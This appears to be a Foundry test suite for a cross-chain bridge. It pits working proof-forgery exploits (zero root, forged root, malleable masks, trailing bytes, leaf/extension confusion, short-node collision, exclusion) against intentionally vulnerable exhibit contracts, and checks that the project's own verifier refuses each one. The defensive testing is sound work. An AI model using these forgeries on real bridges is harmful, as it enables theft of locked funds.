// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import { IMessageBox } from "../../src/interfaces/IMessageBox.sol";
import { FixedSlots } from "../../src/libraries/FixedSlots.sol";
import { TrieProof } from "../../src/libraries/TrieProof.sol";
import { MessageStatus, RemoteProof, Transfer } from "../../src/types/Messages.sol";
import { KeyedRoots } from "../../src/vulnerable/KeyedRoots.sol";
import { MaskedProofCoGateway } from "../../src/vulnerable/MaskedProofCoGateway.sol";
import { ShortNodeVault } from "../../src/vulnerable/ShortNodeVault.sol";
import { Entry, TrieBuilder } from "../support/TrieBuilder.sol";
import { Tries } from "../support/Tries.sol";
import { Exhibit, Museum } from "./Museum.sol";
import { RLP } from "@openzeppelin/contracts/utils/RLP.sol";

/// @notice Bridges that were broken by what they took for a proof: each attack takes exactly so much from the broken
/// contract and is refused by ours with that error (R61, R69; J02, J04, J05, J07-J09).
contract BrokenProofsTest is Museum {
    uint256 private constant ENCODINGS = 14 * 16;

    /* ZERO ROOT */

    function test_zeroRoot_isRobbed() public {
        show(Exhibit.ZeroRoot);
        RemoteProof memory nothing;
        takeHome(coGateway, strangerTransfer(), nothing);
        vm.assertEq(unbacked(), AMOUNT);
        vm.assertEq(utility.balanceOf(STRANGER), AMOUNT);
    }

    function test_zeroRoot_isRefused() public {
        otherRoots = address(new KeyedRoots(DEACTIVATOR));
        show(Exhibit.Ours);
        RemoteProof memory nothing;
        vm.expectRevert(abi.encodeWithSelector(TrieProof.ZeroRoot.selector));
        coGateway.confirmStake(strangerTransfer(), nothing);
    }

    /// @dev The variant is sound as long as no root is zero: a message that was proven passes, once.
    function test_zeroRoot_isTheOnlyFlaw() public {
        show(Exhibit.ZeroRoot);
        vm.store(address(coGateway), keccak256(abi.encode(bytes32(0), uint256(6))), 0);
        RemoteProof memory nothing;
        Transfer memory transfer = strangerTransfer();
        bytes32 messageHash = coGateway.stakeHash(transfer);
        vm.expectRevert(notProven(messageHash));
        coGateway.confirmStake(transfer, nothing);
    }

    /* FORGED ROOT */

    /// @dev A state of origin that there never was: one account, one word.
    function forgedState(Transfer memory transfer) private view returns (bytes32 root, RemoteProof memory proof) {
        uint256 slot = FixedSlots.entry(uint256(coGateway.stakeHash(transfer)), FixedSlots.GATEWAY_OUTBOX);
        bytes32 storageRoot;
        (storageRoot, proof.storageProof) = Tries.storageTrie(slot, uint256(MessageStatus.Declared));
        (root, proof.accountProof) = Tries.stateTrie(address(gateway), storageRoot, CODE_HASH);
        proof.height = 1;
    }

    function test_forgedRoot_isRobbed() public {
        KeyedRoots roots = new KeyedRoots(STRANGER);
        otherRoots = address(roots);
        show(Exhibit.Ours);
        Transfer memory transfer = strangerTransfer();
        (bytes32 root, RemoteProof memory proof) = forgedState(transfer);
        vm.prank(STRANGER);
        roots.anchorStateRoot(1, root);
        takeHome(coGateway, transfer, proof);
        vm.assertEq(unbacked(), AMOUNT);
    }

    function test_forgedRoot_isRefused() public {
        show(Exhibit.Ours);
        finalise();
        Transfer memory transfer = strangerTransfer();
        (bytes32 root, RemoteProof memory proof) = forgedState(transfer);
        vm.expectRevert(abi.encodeWithSelector(TrieProof.WrongNode.selector, 0, observer.stateRoot(1), root));
        coGateway.confirmStake(transfer, proof);
    }

    function test_forgedRoot_needsTheKey() public {
        KeyedRoots roots = new KeyedRoots(DEACTIVATOR);
        vm.expectRevert(abi.encodeWithSelector(KeyedRoots.NotKeyholder.selector, address(this)));
        roots.anchorStateRoot(1, keccak256("forged"));
    }

    /* MALLEABLE PROOF */

    function maskOf(bytes32 messageHash, uint256 first) private pure returns (bytes memory) {
        uint256 slot = FixedSlots.entry(uint256(messageHash), FixedSlots.GATEWAY_OUTBOX);
        return abi.encodePacked(uint8(first), keccak256(abi.encode(slot)));
    }

    function test_malleableProof_isRobbed() public {
        show(Exhibit.MaskedProof);
        Transfer memory transfer = strangerTransfer();
        bytes32 messageHash = stake(transfer);
        RemoteProof memory proof = originProof(messageHash);
        MaskedProofCoGateway target = MaskedProofCoGateway(address(coGateway));
        uint256 taken;
        for (uint256 first; first < 256; ++first) {
            try target.mintByProof(transfer, maskOf(messageHash, first), proof) {
                ++taken;
            } catch { }
        }
        vm.assertEq(taken, ENCODINGS);
        vm.assertEq(unbacked(), (ENCODINGS - 1) * AMOUNT);
        bytes32 used = keccak256(abi.encode(messageHash, maskOf(messageHash, 0)));
        vm.expectRevert(abi.encodeWithSelector(MaskedProofCoGateway.AlreadyUsed.selector, used));
        target.mintByProof(transfer, maskOf(messageHash, 0), proof);
    }

    function test_malleableProof_isRefused() public {
        show(Exhibit.Ours);
        Transfer memory transfer = strangerTransfer();
        bytes32 messageHash = stake(transfer);
        RemoteProof memory proof = originProof(messageHash);
        takeHome(coGateway, transfer, proof);
        vm.expectRevert(abi.encodeWithSelector(IMessageBox.InboxStatus.selector, messageHash, MessageStatus.Progressed));
        coGateway.confirmStake(transfer, proof);
        vm.assertEq(unbacked(), 0);
    }

    /* TRAILING BYTES */

    /// @dev The gateway's real account, and behind it in the same bytes another one with a storage of our own.
    function appended(Transfer memory transfer) private returns (RemoteProof memory proof, bytes32 genuine) {
        stake(transferAt(0));
        bytes32 messageHash = coGateway.stakeHash(transfer);
        proof = originProof(messageHash);
        (, RemoteProof memory forged) = forgedState(transfer);
        uint256 last = proof.accountProof.length - 1;
        genuine = keccak256(proof.accountProof[last]);
        bytes32 storageRoot = keccak256(forged.storageProof[0]);
        bytes memory account = TrieBuilder.account(address(gateway), storageRoot, CODE_HASH).value;
        proof.accountProof[last] = abi.encodePacked(proof.accountProof[last], RLP.encode(account));
        proof.storageProof = forged.storageProof;
    }

    function test_trailingBytes_isRobbed() public {
        show(Exhibit.TrailingBytes);
        Transfer memory transfer = strangerTransfer();
        (RemoteProof memory proof,) = appended(transfer);
        takeHome(coGateway, transfer, proof);
        vm.assertEq(utility.balanceOf(STRANGER), AMOUNT);
    }

    function test_trailingBytes_isRefused() public {
        show(Exhibit.Ours);
        Transfer memory transfer = strangerTransfer();
        (RemoteProof memory proof, bytes32 genuine) = appended(transfer);
        uint256 last = proof.accountProof.length - 1;
        vm.expectRevert(
            abi.encodeWithSelector(TrieProof.WrongNode.selector, last, genuine, keccak256(proof.accountProof[last]))
        );
        coGateway.confirmStake(transfer, proof);
    }

    /* LEAF AND EXTENSION */

    function keyOf(Transfer memory transfer) private view returns (bytes32) {
        uint256 slot = FixedSlots.entry(uint256(gateway.stakeHash(transfer)), FixedSlots.GATEWAY_OUTBOX);
        return keccak256(abi.encode(slot));
    }

    function shared(bytes32 left, bytes32 right) private pure returns (uint256 count) {
        while (Tries.nibble(left, count) == Tries.nibble(right, count)) ++count;
    }

    /// @dev Hash of the branch to which the extension of a trie with two declared messages leads.
    function below(bytes32 first, bytes32 second) private pure returns (bytes32) {
        Entry[] memory entries = new Entry[](2);
        (entries[0], entries[1]) = (Entry(first, hex"01"), Entry(second, hex"01"));
        return keccak256(TrieBuilder.prove(entries, first)[1]);
    }

    /// @dev Two honest stakes whose entries share a nibble, so that an extension leads to both, and the hash below it
    /// ends in the byte of Declared: who chooses the messages finds them by trying. Then a message behind the same
    /// extension that nobody staked, and the proof cut off there.
    function cutOff() private returns (Transfer memory forged, RemoteProof memory proof, bytes32 child) {
        Transfer memory staked = strangerTransfer();
        stake(transferAt(0));
        bytes32 key = keyOf(transferAt(0));
        for (; uint8(uint256(child)) != uint256(MessageStatus.Declared); ++staked.gasLimit) {
            if (shared(key, keyOf(staked)) > 0) child = below(key, keyOf(staked));
        }
        --staked.gasLimit;
        stake(staked);
        forged = strangerTransfer();
        forged.amount = 5 * AMOUNT;
        uint256 wanted = shared(key, keyOf(staked));
        while (shared(key, keyOf(forged)) < wanted) ++forged.gasLimit;
        proof = originProof(coGateway.stakeHash(forged));
        bytes[] memory cut = new bytes[](1);
        cut[0] = proof.storageProof[0];
        proof.storageProof = cut;
    }

    function test_leafAndExtension_isRobbed() public {
        show(Exhibit.Flagless);
        (Transfer memory forged, RemoteProof memory proof,) = cutOff();
        takeHome(coGateway, forged, proof);
        vm.assertEq(utility.balanceOf(STRANGER), 5 * AMOUNT);
        vm.assertEq(unbacked(), 3 * AMOUNT);
    }

    function test_leafAndExtension_isRefused() public {
        show(Exhibit.Ours);
        (Transfer memory forged, RemoteProof memory proof, bytes32 child) = cutOff();
        vm.expectRevert(abi.encodeWithSelector(TrieProof.MissingNode.selector, 1, child));
        coGateway.confirmStake(forged, proof);
    }

    /* SHORT AND LONG NODES */

    /// @dev Of all balances the one, found by 2^32 hashes, whose leaf has a hash that reads like a shorter leaf.
    uint256 private constant COLLIDING = 5_106_021_780;
    bytes1 private constant ATTACKED = 0x11;
    bytes1 private constant VICTIM = 0x22;

    function leafOf(uint256 balance, bytes1 flagAndNibble) private pure returns (bytes memory) {
        bytes[] memory items = new bytes[](2);
        (items[0], items[1]) = (RLP.encode(abi.encodePacked(flagAndNibble)), RLP.encode(abi.encodePacked(balance)));
        return RLP.encode(items);
    }

    /// @dev Honest balances of both accounts, and the proof in which a short node stands for the attacker's leaf.
    function collision() private pure returns (bytes32 root, bytes[] memory proof, bytes memory leaf) {
        leaf = leafOf(COLLIDING, 0x31);
        bytes[] memory branch = new bytes[](17);
        for (uint256 i; i < 17; ++i) {
            branch[i] = hex"80";
        }
        branch[1] = RLP.encode(abi.encodePacked(keccak256(leaf)));
        branch[2] = RLP.encode(abi.encodePacked(keccak256(leafOf(AMOUNT, 0x32))));
        proof = new bytes[](2);
        proof[0] = RLP.encode(branch);
        proof[1] = abi.encodePacked(bytes31(keccak256(leaf)));
        root = keccak256(proof[0]);
    }

    function test_shortAndLongNode_isRobbed() public {
        show(Exhibit.Ours);
        ShortNodeVault vault = new ShortNodeVault(address(token), address(observer));
        uint256 before = token.balanceOf(STRANGER);
        deposit(vault, VICTIM, AMOUNT, sender);
        deposit(vault, ATTACKED, COLLIDING, STRANGER);
        (bytes32 root, bytes[] memory proof,) = collision();
        uint64 height = observer.add(root);
        vm.prank(STRANGER);
        vault.withdraw(ATTACKED, AMOUNT + COLLIDING, height, proof);
        vm.assertEq(token.balanceOf(address(vault)), 0);
        vm.assertEq(token.balanceOf(STRANGER), before + AMOUNT);
    }

    function deposit(ShortNodeVault vault, bytes1 number, uint256 amount, address owner) private {
        vm.prank(owner);
        token.approve(address(vault), amount);
        vm.prank(owner);
        vault.deposit(number, amount);
    }

    /// @dev With the leaf itself the vault knows what is owed.
    function test_shortAndLongNode_isTheOnlyFlaw() public {
        show(Exhibit.Ours);
        ShortNodeVault vault = new ShortNodeVault(address(token), address(observer));
        deposit(vault, ATTACKED, COLLIDING, STRANGER);
        (bytes32 root, bytes[] memory proof, bytes memory leaf) = collision();
        uint64 height = observer.add(root);
        proof[1] = leaf;
        vm.expectRevert(abi.encodeWithSelector(ShortNodeVault.ExceedsBalance.selector, COLLIDING + 1, COLLIDING));
        vm.prank(STRANGER);
        vault.withdraw(ATTACKED, COLLIDING + 1, height, proof);
        vm.prank(STRANGER);
        vault.withdraw(ATTACKED, COLLIDING, height, proof);
    }

    function find(bytes32 root, bytes memory key, bytes[] memory proof) external pure returns (bytes memory) {
        return TrieProof.find(root, key, proof);
    }

    function test_shortAndLongNode_isRefused() public {
        (bytes32 root, bytes[] memory proof, bytes memory leaf) = collision();
        bytes32 wanted = keccak256(leaf);
        vm.expectRevert(abi.encodeWithSelector(TrieProof.WrongNode.selector, 1, wanted, keccak256(proof[1])));
        this.find(root, abi.encodePacked(ATTACKED), proof);
        proof[1] = leaf;
        vm.assertEq(this.find(root, abi.encodePacked(ATTACKED), proof), abi.encodePacked(COLLIDING));
    }

    /* EXCLUSION */

    function excluded(Transfer memory transfer) private returns (RemoteProof memory) {
        stake(transferAt(0));
        return originProof(coGateway.stakeHash(transfer));
    }

    function test_exclusion_isRobbed() public {
        show(Exhibit.Exclusion);
        Transfer memory transfer = strangerTransfer();
        RemoteProof memory proof = excluded(transfer);
        takeHome(coGateway, transfer, proof);
        vm.assertEq(utility.balanceOf(STRANGER), AMOUNT);
    }

    function test_exclusion_isRefused() public {
        show(Exhibit.Ours);
        Transfer memory transfer = strangerTransfer();
        RemoteProof memory proof = excluded(transfer);
        vm.expectRevert(notProven(coGateway.stakeHash(transfer)));
        coGateway.confirmStake(transfer, proof);
    }

    /* NO OTHER FLAW */

    /// @dev What an honest sender does works with each of them, and a wrong status is refused.
    function test_plainVerifiersAreSoundOtherwise() public {
        Exhibit[3] memory plain = [Exhibit.TrailingBytes, Exhibit.Flagless, Exhibit.Exclusion];
        for (uint256 i; i < plain.length; ++i) {
            delete messages;
            show(plain[i]);
            Transfer memory transfer = strangerTransfer();
            bytes32 messageHash = stake(transfer);
            takeHome(coGateway, transfer, originProof(messageHash));
            vm.assertEq(unbacked(), 0);
            gateway.progressStake(transfer, SECRET);
            Transfer memory next = strangerTransfer();
            next.nonce = 1;
            messageHash = stake(next);
            gateway.progressStake(next, SECRET);
            RemoteProof memory proof = originProof(messageHash);
            vm.expectRevert(
                abi.encodeWithSelector(
                    IMessageBox.StatusNotProven.selector,
                    messageHash,
                    MessageStatus.Declared,
                    uint256(MessageStatus.Progressed)
                )
            );
            coGateway.confirmStake(next, proof);
        }
    }

    function notProven(bytes32 messageHash) private pure returns (bytes memory) {
        return abi.encodeWithSelector(IMessageBox.StatusNotProven.selector, messageHash, MessageStatus.Declared, 0);
    }
}
